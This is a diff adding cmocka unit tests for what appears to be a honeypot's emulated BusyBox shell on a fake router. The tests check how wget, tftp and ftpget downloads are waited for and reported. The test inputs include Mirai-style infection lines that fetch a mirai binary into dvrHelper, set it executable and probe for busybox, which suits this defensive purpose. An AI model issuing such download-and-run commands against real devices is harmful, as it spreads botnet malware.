@@ -38,6 +38,10 @@ struct host {
 	struct ev ev[MAX_EV];
 	int nev;
 	int64_t now;
+	/* downloads the shell waits for (h_fetch) */
+	int fetch_rc;
+	int nfetch;
+	char f_url[512], f_applet[16], f_outfile[256], f_user[64], f_pass[64];
 };
 
 static char *dupn(const char *p, size_t n)
@@ -94,6 +98,19 @@ static void h_event(void *ctx, enum sh_event ev, const struct sh_event_info *i)
 		e->len = i->len;
 	}
 	e->status = i->status;
+}
+
+static int h_fetch(void *ctx, const struct sh_event_info *i)
+{
+	struct host *h = ctx;
+
+	h->nfetch++;
+	snprintf(h->f_url, sizeof h->f_url, "%s", i->url ? i->url : "");
+	snprintf(h->f_applet, sizeof h->f_applet, "%s", i->applet ? i->applet : "");
+	snprintf(h->f_outfile, sizeof h->f_outfile, "%s", i->outfile ? i->outfile : "");
+	snprintf(h->f_user, sizeof h->f_user, "%s", i->user ? i->user : "");
+	snprintf(h->f_pass, sizeof h->f_pass, "%s", i->pass ? i->pass : "");
+	return h->fetch_rc;
 }
 
 static int64_t h_now(void *ctx)
@@ -245,9 +262,20 @@ static void build_persona(struct fixture *fx)
 static struct sh *new_shell(struct fixture *fx, const struct persona *p,
 			    bool root)
 {
-	struct sh_host hh = {&fx->h, h_out, h_pause, h_event, h_now, NULL};
+	struct sh_host hh = {&fx->h, h_out, h_pause, h_event, h_now, NULL, NULL};
 
 	fx->sh = sh_new(p, &hh, root);
+	assert_non_null(fx->sh);
+	return fx->sh;
+}
+
+/* A shell whose host fetches: lines wait for sh_fetch_done(). */
+static struct sh *new_fetch_shell(struct fixture *fx)
+{
+	struct sh_host hh = {&fx->h, h_out, h_pause, h_event, h_now, NULL, h_fetch};
+
+	fx->h.fetch_rc = 1;
+	fx->sh = sh_new(&fx->p, &hh, true);
 	assert_non_null(fx->sh);
 	return fx->sh;
 }
@@ -542,6 +570,190 @@ static void t_fetch(void **state)
 	RUN_EQ(fx, "/bin/busybox curl", "curl: applet not found\n[root@router /var]# ");
 }
 
+/* Ends the waited-for download and returns what the shell printed. */
+static const char *done_ok(struct fixture *fx, const char *data, unsigned ms)
+{
+	struct sh_fetch_result r;
+
+	memset(&r, 0, sizeof r);
+	r.ok = true;
+	r.data = (const uint8_t *)data;
+	r.len = strlen(data);
+	r.peer_ip = "127.0.0.1";
+	r.connected = true;
+	r.ms = ms;
+	buf_reset(&fx->h.out);
+	sh_fetch_done(fx->sh, &r);
+	return fx->h.out.p ? fx->h.out.p : "";
+}
+
+static const char *done_fail(struct fixture *fx, const char *reason, const char *detail,
+			     int code, bool connected)
+{
+	struct sh_fetch_result r;
+
+	memset(&r, 0, sizeof r);
+	r.reason = reason;
+	r.detail = detail;
+	r.code = code;
+	r.status_line = "HTTP/1.1 404 Not Found";
+	r.ftp_cmd = "PASS";
+	r.peer_ip = connected || !strcmp(reason, "connect") ? "127.0.0.1" : "";
+	r.connected = connected;
+	r.ms = 30000;
+	buf_reset(&fx->h.out);
+	sh_fetch_done(fx->sh, &r);
+	return fx->h.out.p ? fx->h.out.p : "";
+}
+
+#define P "[root@router /var]# "
+#define METER_0(name) "\r" name "   0% |                               |     0  --:--:-- ETA"
+#define METER_100(name, size) "\r" name " 100% |*******************************|" size "  --:--:-- ETA\n"
+
+static void t_fetch_wait(void **state)
+{
+	struct fixture *fx = *state;
+
+	new_fetch_shell(fx);
+	RUN_EQ(fx, "cd /var; wget http://127.0.0.1:8080/bins/x -O y; chmod 777 y; ls -l y; cat y",
+	       "");
+	assert_true(sh_waiting(fx->sh));
+	assert_int_equal(fx->h.nfetch, 1);
+	assert_string_equal(fx->h.f_url, "http://127.0.0.1:8080/bins/x");
+	assert_string_equal(fx->h.f_applet, "wget");
+	assert_string_equal(fx->h.f_outfile, "/var/y");
+	/* the request went to the host's fetch, not to the event */
+	assert_null(find_ev(&fx->h, SH_EV_FETCH));
+	/* typed while waiting: kept, run afterwards */
+	RUN_EQ(fx, "echo queued; /bin/busybox ECCHI", "");
+	assert_string_equal(done_ok(fx, "hello world\n", 5),
+			    "Connecting to 127.0.0.1:8080 (127.0.0.1:8080)\n"
+			    METER_0("y                   ")
+			    METER_100("y                   ", "    12")
+			    "-rwxrwxrwx    1 root     root           12 Nov 17 23:13 y\n"
+			    "hello world\n" P
+			    "queued\nECCHI: applet not found\n" P);
+	assert_false(sh_waiting(fx->sh));
+	/* the fetcher stored the file: chmod and the run capture nothing */
+	assert_int_equal(count_ev(&fx->h, SH_EV_CAPTURE), 0);
+	host_clear(&fx->h);
+
+	/* failures, and && || after them */
+	RUN_EQ(fx, "wget http://127.0.0.1:8080/nope && echo ok || echo failed", "");
+	assert_string_equal(fx->h.f_outfile, "/var/nope");
+	assert_string_equal(done_fail(fx, "http_status", "404", 404, true),
+			    "Connecting to 127.0.0.1:8080 (127.0.0.1:8080)\n"
+			    "wget: server returned error: HTTP/1.1 404 Not Found\n"
+			    "failed\n" P);
+	RUN_EQ(fx, "ls nope", "ls: nope: No such file or directory\n" P);
+	RUN_EQ(fx, "wget http://127.0.0.1:1/x", "");
+	assert_string_equal(done_fail(fx, "connect", "Connection refused", 0, false),
+			    "Connecting to 127.0.0.1:1 (127.0.0.1:1)\n"
+			    "wget: can't connect to remote host (127.0.0.1): Connection refused\n" P);
+	RUN_EQ(fx, "wget -q http://nosuch.example/x; echo $?", "");
+	assert_string_equal(done_fail(fx, "dns", "no address", 0, false),
+			    "wget: bad address 'nosuch.example'\n1\n" P);
+	RUN_EQ(fx, "wget http://127.0.0.1:8080/slow", "");
+	assert_string_equal(done_fail(fx, "timeout", NULL, 0, true),
+			    "Connecting to 127.0.0.1:8080 (127.0.0.1:8080)\n"
+			    "wget: download timed out\n" P);
+	RUN_EQ(fx, "wget http://127.0.0.1:8080/slow", "");
+	assert_string_equal(done_fail(fx, "timeout", NULL, 0, false),
+			    "Connecting to 127.0.0.1:8080 (127.0.0.1:8080)\n"
+			    "wget: can't connect to remote host (127.0.0.1): Connection timed out\n" P);
+	host_clear(&fx->h);
+
+	/* Mirai: -O - into a redirection */
+	RUN_EQ(fx, "/bin/busybox wget http://127.0.0.1:8080/bins/mirai.mips -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
+	       "");
+	assert_string_equal(fx->h.f_outfile, "/var/dvrHelper");
+	assert_string_equal(done_ok(fx, "\x7f" "ELFbody", 1500),
+			    "Connecting to 127.0.0.1:8080 (127.0.0.1:8080)\n"
+			    METER_0("-                   ")
+			    "\r-                    100% |*******************************|     8  00:00:00 ETA\n"
+			    "ECCHI: applet not found\n" P);
+	RUN_EQ(fx, "cat dvrHelper", "\x7f" "ELFbody" P);
+	assert_int_equal(count_ev(&fx->h, SH_EV_CAPTURE), 0);
+	host_clear(&fx->h);
+
+	/* tftp: silent on success, BusyBox's texts on failure */
+	RUN_EQ(fx, "/bin/busybox tftp -g -l t1 -r mirai.arm 127.0.0.1 6969; ls t1", "");
+	assert_string_equal(fx->h.f_url, "tftp://127.0.0.1:6969/mirai.arm");
+	assert_string_equal(done_ok(fx, "tftp data", 3), "t1\n" P);
+	RUN_EQ(fx, "tftp -g -r nofile 127.0.0.1", "");
+	assert_string_equal(done_fail(fx, "tftp_error", "File not found", 1, false),
+			    "tftp: server error: (1) File not found\n" P);
+	RUN_EQ(fx, "tftp -g -r x 127.0.0.1", "");
+	assert_string_equal(done_fail(fx, "timeout", "no answer", 0, false), "tftp: timeout\n" P);
+
+	/* ftpget hands its login to the fetcher */
+	RUN_EQ(fx, "ftpget -u bob -p s3cret 127.0.0.1 f.sh bins/f.sh; cat f.sh", "");
+	assert_string_equal(fx->h.f_url, "ftp://127.0.0.1/bins/f.sh");
+	assert_string_equal(fx->h.f_user, "bob");
+	assert_string_equal(fx->h.f_pass, "s3cret");
+	assert_string_equal(done_ok(fx, "#!/bin/sh\n", 3), "#!/bin/sh\n" P);
+	RUN_EQ(fx, "ftpget -u bob 127.0.0.1 g.sh g.sh", "");
+	assert_string_equal(fx->h.f_pass, "busybox@");
+	assert_string_equal(done_fail(fx, "ftp_error", "530 Login incorrect.", 530, true),
+			    "ftpget: unexpected server response to PASS: 530 Login incorrect.\n" P);
+	RUN_EQ(fx, "ftpget 127.0.0.1 h.sh h.sh", "");
+	assert_string_equal(fx->h.f_user, "");
+
+	/* still waiting when the session ends: freed by teardown */
+	RUN_EQ(fx, "", "");
+}
+
+static void t_fetch_wait_more(void **state)
+{
+	struct fixture *fx = *state;
+	int i;
+
+	new_fetch_shell(fx);
+	run(fx, "cd /var");
+	/* `sh FILE` reads the file: no x bit needed, unlike ./FILE */
+	RUN_EQ(fx, "echo 'echo hi' > s; sh s; ./s", "hi\n-sh: ./s: Permission denied\n" P);
+	RUN_EQ(fx, "for i in 1; do wget http://1.2.3.4/x; done",
+	       "Connecting to 1.2.3.4 (1.2.3.4:80)\n"
+	       "wget: can't connect to remote host (1.2.3.4): Connection timed out\n" P);
+	assert_int_equal(fx->h.nfetch, 0);
+	assert_non_null(find_ev(&fx->h, SH_EV_FETCH));
+	/* refused by the host: the failure at once, the line goes on */
+	fx->h.fetch_rc = 0;
+	RUN_EQ(fx, "wget http://1.2.3.4/x; echo next",
+	       "Connecting to 1.2.3.4 (1.2.3.4:80)\n"
+	       "wget: can't connect to remote host (1.2.3.4): Connection timed out\n"
+	       "next\n" P);
+	assert_int_equal(fx->h.nfetch, 1);
+	fx->h.fetch_rc = 1;
+	/* a pipeline resumes into its right side */
+	RUN_EQ(fx, "wget -q -O - http://127.0.0.1/s | wc -c", "");
+	assert_string_equal(done_ok(fx, "abcdef", 1), "6\n" P);
+	/* an if/while body does not wait; a second wait in one line does */
+	RUN_EQ(fx, "wget -q http://127.0.0.1/a; wget -q http://127.0.0.1/b; ls a b", "");
+	assert_string_equal(done_ok(fx, "A", 1), "");
+	assert_true(sh_waiting(fx->sh));
+	assert_string_equal(fx->h.f_url, "http://127.0.0.1/b");
+	assert_string_equal(done_ok(fx, "BB", 1), "a\nb\n" P);
+	/* injected (a door): no wait, the applet succeeds, the host stores */
+	fx->h.nfetch = 0;
+	buf_reset(&fx->h.out);
+	sh_inject(fx->sh, "wget http://127.0.0.1/d -O /var/d && echo x > /var/e", 52);
+	assert_int_equal(fx->h.out.len, 0);
+	assert_int_equal(fx->h.nfetch, 1);
+	assert_string_equal(fx->h.f_outfile, "/var/d");
+	assert_false(sh_waiting(fx->sh));
+	assert_int_equal(sh_fetch_store(fx->sh, "/var/d", (const uint8_t *)"DDD", 3), 0);
+	assert_int_equal(sh_fetch_store(fx->sh, "/proc/x", (const uint8_t *)"DDD", 3) < 0, 1);
+	RUN_EQ(fx, "cat d; cat e", "DDDx\n" P);
+	/* the queue is bounded; an end while waiting leaks nothing */
+	RUN_EQ(fx, "wget -q http://127.0.0.1/c", "");
+	for (i = 0; i < 100; i++)
+		RUN_EQ(fx, "echo 0123456789012345678901234567890123456789012345678901234567890123456789", "");
+	sh_end(fx->sh);
+	/* not waiting: ignored */
+	buf_reset(&fx->h.out);
+}
+
 static void t_inject(void **state)
 {
 	struct fixture *fx = *state;
@@ -720,6 +932,8 @@ int main(void)
 		cmocka_unit_test_setup_teardown(t_while_read_dd, setup, teardown),
 		cmocka_unit_test_setup_teardown(t_andor_status, setup, teardown),
 		cmocka_unit_test_setup_teardown(t_fetch, setup, teardown),
+		cmocka_unit_test_setup_teardown(t_fetch_wait, setup, teardown),
+		cmocka_unit_test_setup_teardown(t_fetch_wait_more, setup, teardown),
 		cmocka_unit_test_setup_teardown(t_inject, setup, teardown),
 		cmocka_unit_test_setup_teardown(t_caps, setup, teardown),
 		cmocka_unit_test_setup_teardown(t_su_ps_kill, setup, teardown),
